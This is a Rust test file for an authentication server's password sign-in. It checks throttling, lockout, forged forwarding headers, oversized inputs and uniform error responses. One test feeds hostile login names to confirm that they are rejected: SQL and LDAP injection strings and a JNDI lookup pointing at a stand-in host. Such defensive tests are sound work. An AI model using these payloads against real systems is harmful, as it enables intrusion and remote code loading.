//! Cases of sign-in by password.

use std::sync::Arc;
use std::time::Duration;

use pmp_auth::base::{Clock as _, SystemEntropy};
use pmp_auth::identity::{Password, PasswordCost, Passwords};
use pmp_auth::model::user::LoginName;
use pmp_auth::model::{Audit, UserId};
use pmp_auth::storage::{Change, Engine, NewUser};
use reqwest::Method;

use crate::support::browser::{Asking, Browser, Page};
use crate::support::server::{PASSWORD, TENANTS, TestServer};

on_every_server! {
    sec_login_05
    sec_login_08
    sec_login_09
    sec_login_11
    sec_tenant_19
    a_strangers_failures_do_not_keep_out_a_browser_that_knows_the_user
}

/// The login page, and a browser to send its form.
async fn login_page(server: &TestServer, tenant: &str) -> (Browser, Page) {
    let browser = Browser::new();
    let page = browser.open(Asking::of("web").at(&server.issuer(tenant))).await;
    (browser, page)
}

async fn attempt((browser, page): &(Browser, Page), login: &str, password: &str) -> Page {
    browser.submit(page, &[("username", login), ("password", password)]).await
}

async fn sec_login_05(engine: Engine) {
    let server = TestServer::start(engine).await;
    let desk = login_page(&server, "acme").await;
    let mut statuses = Vec::new();
    for n in 1..=11 {
        let before = server.app.passwords.evaluated();
        let answer = attempt(&desk, "alice", "wrong").await;
        statuses.push(answer.status);
        let evaluated = server.app.passwords.evaluated() - before;
        assert_eq!(evaluated, u64::from(answer.status != 429), "attempt {n}");
        if answer.status == 429 {
            assert!(answer.header("retry-after").is_some());
        }
    }
    assert_eq!(statuses[..6], [422; 6]);
    assert_eq!(statuses[6..], [429; 5], "from the sixth on each costs a growing delay");
    let right = attempt(&desk, "alice", PASSWORD).await;
    assert_eq!(right.status, 429, "and the right password is not tried either");
    server.clock.advance(Duration::from_mins(1));
    assert_eq!(attempt(&desk, "alice", PASSWORD).await.status, 303);
    // A success forgives.
    let desk = login_page(&server, "acme").await;
    for _ in 0..5 {
        assert_eq!(attempt(&desk, "alice", "wrong").await.status, 422);
    }
    server.app.services.recorder.flush().await;
    let audit = server.tenant("acme").store.list_audit(100).await.unwrap();
    let count = |action: &str| audit.iter().filter(|r| r.action.as_str() == action).count();
    assert_eq!(count("login.failed"), 11);
    assert_eq!(count("login.throttled"), 6);
    server.stop().await;
}

async fn sec_login_08(engine: Engine) {
    let server = TestServer::start(engine).await;
    let desk = login_page(&server, "acme").await;
    for n in 0..6 {
        let name = if n % 2 == 0 { "alice" } else { "ALICE@example.com" };
        assert_eq!(attempt(&desk, name, "wrong").await.status, 422);
    }
    for name in ["alice", "alice@example.com", " Alice "] {
        assert_eq!(attempt(&desk, name, PASSWORD).await.status, 429, "{name}");
    }
    assert_eq!(attempt(&desk, "bob", PASSWORD).await.status, 303);
    server.stop().await;
}

async fn sec_login_09(engine: Engine) {
    let server = TestServer::start(engine).await;
    let browser = Browser::new();
    let page = browser.open(Asking::of("web").at(&server.issuer("acme"))).await;
    browser.sign_in(&page, "alice", PASSWORD).await;
    // Confirming that it is still her, in a live session, is counted as any other attempt.
    let again = Asking::of("web").with("prompt", "login").at(&server.issuer("acme"));
    let again = (browser.clone(), browser.open(again).await);
    let fresh = login_page(&server, "acme").await;
    for n in 0..6 {
        let desk = if n % 2 == 0 { &again } else { &fresh };
        assert_eq!(attempt(desk, "alice", "wrong").await.status, 422);
    }
    for desk in [&again, &fresh] {
        assert_eq!(attempt(desk, "alice", PASSWORD).await.status, 429);
    }
    server.stop().await;
}

/// The value of the cookie of those who signed in here before, as a login sets it, and its name.
async fn known_cookie(server: &TestServer, tenant: &str, user: &str) -> (String, String) {
    let (browser, page) = login_page(server, tenant).await;
    let answer = attempt(&(browser, page), user, PASSWORD).await;
    assert_eq!(answer.status, 303);
    let name = format!("pmp_{}_known=", server.tenant(tenant).uid);
    let lines = answer.headers.get_all("set-cookie").iter().map(|line| line.to_str().unwrap());
    let line = lines.into_iter().find(|line| line.starts_with(&name)).expect("the cookie");
    assert!(line.ends_with("; Path=/; Max-Age=15552000; HttpOnly; SameSite=Lax"), "{line}");
    let value = line[name.len()..].split(';').next().unwrap();
    (name, value.to_owned())
}

/// The login page at a browser that has this cookie besides its own.
async fn attempt_with(server: &TestServer, cookie: &str, login: &str, password: &str) -> u16 {
    let browser = Browser::without_jar();
    let at = Asking::of("web").at(&server.issuer("acme"));
    let first = browser.get(at).await;
    let own = first.header("set-cookie").unwrap().split(';').next().unwrap().to_owned();
    let cookies = format!("{own}; {cookie}");
    let headers = [("cookie", cookies.as_str())];
    let login_page = first.next().expect("the login page");
    let page = browser.send(Method::GET, login_page.as_str(), &headers, None).await;
    let fields = [("username", login), ("password", password)];
    browser.submit_with(&page, &fields, &headers).await.status
}

async fn a_strangers_failures_do_not_keep_out_a_browser_that_knows_the_user(engine: Engine) {
    let server = TestServer::start(engine).await;
    let (name, known) = known_cookie(&server, "acme", "alice").await;
    let (_, bobs) = known_cookie(&server, "acme", "bob").await;
    let (_, elsewhere) = known_cookie(&server, "other", "alice").await;
    // More than one account, and one address, may fail.
    let stranger = login_page(&server, "acme").await;
    for n in 0..60 {
        let user = if n < 10 { "alice".to_owned() } else { format!("user{n}") };
        attempt(&stranger, &user, "wrong").await;
    }
    let come = async |cookie: &str, password: &str| {
        attempt_with(&server, &format!("{name}{cookie}"), "alice", password).await
    };
    let mut forged = known.clone();
    forged.replace_range(20..21, if &known[20..21] == "A" { "B" } else { "A" });
    for cookie in [&bobs, &elsewhere, &forged, ""] {
        assert_eq!(come(cookie, PASSWORD).await, 429, "{cookie}");
    }
    assert_eq!(come(&known, PASSWORD).await, 303);
    // Who has stolen the cookie guesses no more often than anyone, and nobody else pays for it.
    let mut tried = 0;
    for _ in 0..200 {
        tried += usize::from(come(&known, "wrong").await == 422);
        server.clock.advance(Duration::from_secs(10));
    }
    assert!((6..=20).contains(&tried), "{tried}");
    server.clock.advance(Duration::from_hours(1));
    assert_eq!(come(&known, PASSWORD).await, 303, "its own counter is forgotten in time");
    server.stop().await;
}

async fn sec_login_11(engine: Engine) {
    let server = TestServer::start(engine).await;
    let desk = login_page(&server, "acme").await;
    let mut tried = 0;
    for n in 0..60 {
        let before = server.app.passwords.evaluated();
        let answer = attempt(&desk, &format!("user{n}"), "wrong").await;
        tried += server.app.passwords.evaluated() - before;
        assert_eq!(answer.status, if n < 50 { 422 } else { 429 }, "attempt {n}");
    }
    assert_eq!(tried, 50);
    server.clock.advance(Duration::from_mins(5));
    assert_eq!(attempt(&desk, "alice", PASSWORD).await.status, 303);
    server.stop().await;
}

#[tokio::test]
async fn sec_login_12() {
    let server = TestServer::start(Engine::Memory).await;
    let (browser, page) = login_page(&server, "acme").await;
    let mut last = 0;
    for n in 0..51 {
        let from = format!("10.0.{n}.1");
        let fields = [("username", format!("user{n}")), ("password", "wrong".to_owned())];
        let fields: Vec<_> = fields.iter().map(|(name, value)| (*name, value.as_str())).collect();
        let headers = [("x-forwarded-for", from.as_str()), ("forwarded", "for=10.1.1.1")];
        last = browser.submit_with(&page, &fields, &headers).await.status;
    }
    assert_eq!(last, 429);
    server.stop().await;
}

#[tokio::test]
async fn sec_login_13() {
    let server = TestServer::start(Engine::Memory).await;
    let desk = login_page(&server, "acme").await;
    let before = server.app.passwords.evaluated();
    for (bytes, status) in [(1_025, 400), (5 * 1024, 400), (1024 * 1024, 413)] {
        let answer = attempt(&desk, "alice", &"x".repeat(bytes)).await;
        assert_eq!(answer.status, status, "{bytes} bytes");
    }
    assert_eq!(server.app.passwords.evaluated(), before);
    assert_eq!(attempt(&desk, "alice", &"x".repeat(1_024)).await.status, 422);
    server.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sec_login_16() {
    // Hashes of real cost: one at a time, a few may wait, and the rest is refused at once.
    let pool = costly_pool();
    let began = std::time::Instant::now();
    let all: Vec<_> = (0..500)
        .map(|_| {
            let pool = Arc::clone(&pool);
            tokio::spawn(async move { (pool.verify(password("x"), None).await, began.elapsed()) })
        })
        .collect();
    let mut refused = 0;
    for one in all {
        let (answer, took) = one.await.unwrap();
        if answer.is_err() {
            refused += 1;
            assert!(took < Duration::from_secs(1), "refused after {took:?}");
        }
    }
    assert!(pool.evaluated() <= 500 - refused, "{} evaluated", pool.evaluated());
    assert!(refused > 400, "{refused} refused");

    let server = TestServer::start(Engine::Memory).await;
    let desk = Arc::new(login_page(&server, "acme").await);
    let all: Vec<_> = (0..100)
        .map(|n| {
            let desk = Arc::clone(&desk);
            tokio::spawn(async move { attempt(&desk, &format!("user{n}"), "wrong").await })
        })
        .collect();
    let keys = server.get(&server.url("acme", "/jwks.json")).await;
    assert_eq!(keys.status, 200);
    for one in all {
        let answer = one.await.unwrap();
        assert!(matches!(answer.status, 422 | 429 | 503), "{answer:?}");
        assert_eq!(answer.header("retry-after").is_some(), answer.status != 422);
    }
    assert!(server.app.passwords.evaluated() <= 50 + SEEDED);
    server.stop().await;
}

fn password(text: &str) -> Password {
    Password::typed(text).unwrap()
}

/// One permit for hashes of today's cost.
fn costly_pool() -> Arc<Passwords> {
    let cost = PasswordCost::DEFAULT;
    Arc::new(Passwords::with_permits(cost, 1, Arc::new(SystemEntropy)).unwrap())
}

/// Lets a future begin, and leaves it.
async fn begin_and_leave(future: impl Future) {
    let mut future = Box::pin(future);
    std::future::poll_fn(|context| {
        let _ = future.as_mut().poll(context);
        std::task::Poll::Ready(())
    })
    .await;
}

#[tokio::test]
async fn sec_login_17() {
    let pool = costly_pool();
    for _ in 0..5_000 {
        begin_and_leave(pool.verify(password("x"), None)).await;
    }
    // Who left before its turn is not evaluated; who left later keeps the only permit to the end.
    let running = pool.evaluated();
    assert!(running <= 8, "{running} evaluated for callers that had left");
    while pool.verify(password("x"), None).await.is_err() {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    assert!(pool.evaluated() <= 20, "{}", pool.evaluated());
}

#[tokio::test]
async fn fault_login_01() {
    for engine in [Engine::Memory, Engine::Sqlite, Engine::Postgres] {
        let server = TestServer::start(engine).await;
        let desk = Arc::new(login_page(&server, "acme").await);
        let all: Vec<_> = (0..40)
            .map(|_| {
                let desk = Arc::clone(&desk);
                tokio::spawn(async move { attempt(&desk, "alice", "wrong").await.status })
            })
            .collect();
        let mut tried = 0;
        for one in all {
            tried += u64::from(one.await.unwrap() == 422);
        }
        assert_eq!(tried, 6, "five are free, and the sixth has no delay before it");
        assert_eq!(server.app.passwords.evaluated() - SEEDED, 6);
        server.stop().await;
    }
}

/// Passwords that a start of the test server hashes: two users of two tenants.
const SEEDED: u64 = 4;

#[tokio::test]
async fn sec_login_02() {
    let server = TestServer::start(Engine::Memory).await;
    let (store, now) = (&server.tenant("acme").store, server.clock.now());
    let audit = Audit::default();
    let change = Change { now, not_after: now.plus(Duration::from_mins(11)), audit: &audit };
    let bob = store.find_user_by_login(&LoginName::canonical("bob")).await.unwrap().unwrap();
    let _ = store.set_user_disabled(bob.id, true, &change).await.unwrap();
    let carol = NewUser {
        id: UserId(uuid::Uuid::from_u128(9)),
        username: Some("carol".into()),
        email: "carol@example.com".into(),
        email_verified: false,
        name: None,
        given_name: None,
        family_name: None,
        password_hash: None,
    };
    let _ = store.create_user(&carol, now, &audit).await.unwrap();
    let desk = login_page(&server, "acme").await;
    let mut seen = Vec::new();
    for (name, text) in
        [("nobody", "x"), ("bob", "x"), ("bob", PASSWORD), ("carol", "x"), ("alice", "x")]
    {
        let before = server.app.passwords.evaluated();
        let answer = attempt(&desk, name, text).await;
        let names: Vec<_> = answer.headers.keys().map(|name| name.as_str().to_owned()).collect();
        let work = server.app.passwords.evaluated() - before;
        seen.push((answer.status, answer.body.replace(name, "NAME"), names, work));
    }
    assert!(seen.windows(2).all(|pair| pair[0] == pair[1]), "{seen:?}");
    server.stop().await;
}

#[tokio::test]
async fn sec_login_15() {
    let server = TestServer::start(Engine::Memory).await;
    let store = &server.tenant("acme").store;
    let alice = store.find_user_by_login(&LoginName::canonical("alice")).await.unwrap().unwrap();
    let hash = server.app.passwords.hash(password(" caf\u{e9} \u{1f511} ")).await.unwrap();
    let (now, audit) = (server.clock.now(), Audit::default());
    let change = Change { now, not_after: now.plus(Duration::from_mins(11)), audit: &audit };
    let _ = store.set_password(alice.id, &hash, None, &change).await.unwrap();
    let desk = login_page(&server, "acme").await;
    for wrong in ["caf\u{e9} \u{1f511}", " cafe \u{1f511} ", " CAF\u{c9} \u{1f511} "] {
        assert_eq!(attempt(&desk, "alice", wrong).await.status, 422, "{wrong:?}");
    }
    assert_eq!(attempt(&desk, "alice", " caf\u{e9} \u{1f511} \0").await.status, 400);
    assert_eq!(attempt(&desk, "alice", " cafe\u{301} \u{1f511} ").await.status, 303);
    server.stop().await;
}

#[tokio::test]
async fn sec_login_26() {
    use std::os::unix::fs::PermissionsExt as _;
    let nobody = "\ntenants:\n  acme: {}\n";
    let server = TestServer::with(Engine::Memory, nobody).await;
    let users = server.tenant("acme").store.list_users(None, 10).await.unwrap();
    assert!(users.is_empty(), "{users:?}");
    server.stop().await;

    let generated = TENANTS.replace("password: plum tractor nine lagoon", "password: generate");
    let server = TestServer::with(Engine::Sqlite, &generated).await;
    let seeded = &server.app.first_start.users;
    assert_eq!(seeded.len(), 4);
    let secrets: Vec<_> = seeded.iter().filter_map(|(_, user)| user.generated.as_ref()).collect();
    let drawn = secrets[0].password.reveal().clone();
    assert!(
        drawn.len() >= 20 && secrets.iter().skip(1).all(|other| *other.password.reveal() != drawn)
    );
    for secret in &secrets {
        let mode = std::fs::metadata(&secret.file).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    let desk = login_page(&server, "acme").await;
    assert_eq!(attempt(&desk, "alice", &drawn).await.status, 303);
    let server = server.restart().await;
    assert!(server.app.first_start.users.is_empty(), "made once, shown once");
    let desk = login_page(&server, "acme").await;
    assert_eq!(attempt(&desk, "alice", &drawn).await.status, 303);
    server.stop().await;
}

#[tokio::test]
async fn sec_login_18() {
    let server = TestServer::start(Engine::Memory).await;
    let store = &server.tenant("acme").store;
    let absurd = "$argon2id$v=19$m=4294967295,t=1000,p=1$c29tZXNhbHRzb21lc2E$AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8";
    for (n, hash) in [absurd, "$argon2id$", "plain"].into_iter().enumerate() {
        let new = NewUser {
            id: UserId(uuid::Uuid::from_u128(n as u128 + 1)),
            username: Some(format!("imported{n}")),
            email: format!("imported{n}@example.com"),
            email_verified: false,
            name: None,
            given_name: None,
            family_name: None,
            password_hash: Some(hash.to_owned().into()),
        };
        let now = pmp_auth::base::Clock::now(&server.clock);
        let created = store.create_user(&new, now, &Audit::default()).await.unwrap();
        assert_eq!(created, pmp_auth::storage::CreateUser::Created);
        let desk = login_page(&server, "acme").await;
        assert_eq!(attempt(&desk, &format!("imported{n}"), "plain").await.status, 422);
    }
    server.stop().await;
}

async fn sec_tenant_19(engine: Engine) {
    let server = TestServer::start(engine).await;
    let acme = login_page(&server, "acme").await;
    for _ in 0..7 {
        attempt(&acme, "alice", "wrong").await;
    }
    assert_eq!(attempt(&acme, "alice", PASSWORD).await.status, 429);
    let other = login_page(&server, "other").await;
    let answer = attempt(&other, "alice", PASSWORD).await;
    assert_eq!(answer.status, 303);
    // The session of one is nothing at the other.
    let (browser, _) = other;
    let page = browser.open(Asking::of("web").at(&server.issuer("acme"))).await;
    assert_eq!(page.heading(), "Sign in");
    server.stop().await;
}

#[tokio::test]
async fn sec_login_27() {
    let server = TestServer::start(Engine::Memory).await;
    let desk = login_page(&server, "acme").await;
    for name in ["' OR 1=1--", "*)(uid=*", "${jndi:ldap://evil.example/x}", "a\u{202e}b"] {
        assert_eq!(attempt(&desk, name, "wrong").await.status, 422, "{name}");
    }
    assert_eq!(attempt(&desk, "a\0b", "wrong").await.status, 400);
    assert_eq!(attempt(&desk, &"x".repeat(1_025), "wrong").await.status, 400);
    assert_eq!(attempt(&desk, &"x".repeat(1024 * 1024), "wrong").await.status, 413);
    server.stop().await;
}
